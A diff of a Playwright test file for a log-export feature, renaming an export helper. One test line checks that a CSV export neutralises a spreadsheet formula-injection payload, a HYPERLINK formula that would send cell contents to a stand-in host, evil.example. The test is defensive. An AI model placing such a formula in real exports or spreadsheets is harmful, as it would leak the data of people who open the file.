@@ -2,7 +2,7 @@ import { readFile } from 'node:fs/promises'
 import type { Download, Page } from '@playwright/test'
 import { expect, test } from '../support/test'
 
-async function exports(page: Page, format: 'Table (CSV)' | 'JSON lines'): Promise<void> {
+async function startExport(page: Page, format: 'Table (CSV)' | 'JSON lines'): Promise<void> {
   await page.getByRole('button', { name: 'Export', exact: true }).click()
   await page.getByRole('menuitem', { name: format }).click()
 }
@@ -28,7 +28,7 @@ test.describe('as root', () => {
   }) => {
     await page.goto('/log?type=2')
     const download = page.waitForEvent('download')
-    await exports(page, 'JSON lines')
+    await startExport(page, 'JSON lines')
     await expect(page.getByText(/^300 rows exported$/)).toBeVisible()
     const ids = idsOf(await textOf(download))
     expect(ids).toHaveLength(300)
@@ -47,7 +47,7 @@ test.describe('as root', () => {
     }) => {
       await page.goto('/log')
       const download = page.waitForEvent('download')
-      await exports(page, 'Table (CSV)')
+      await startExport(page, 'Table (CSV)')
       const text = await textOf(download)
       expect(text.startsWith('\uFEFFTime,Channel,User,Token,Type,Model,Prompt,Completion,')).toBe(true)
       expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"')
@@ -85,7 +85,7 @@ test('log export: a failure keeps what is written and offers to continue or stop
   await page.goto('/log')
   await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
   await world.fault({ call: 'GET /api/log/self?p=4', kind: 'refused', message: 'not now' })
-  await exports(page, 'JSON lines')
+  await startExport(page, 'JSON lines')
   await expect(page.getByRole('alert')).toContainText('The export stopped after 40 rows. not now')
   await world.clearFaults()
   await world.fault({ call: 'GET /api/log/self?p=6', kind: 'hang' })
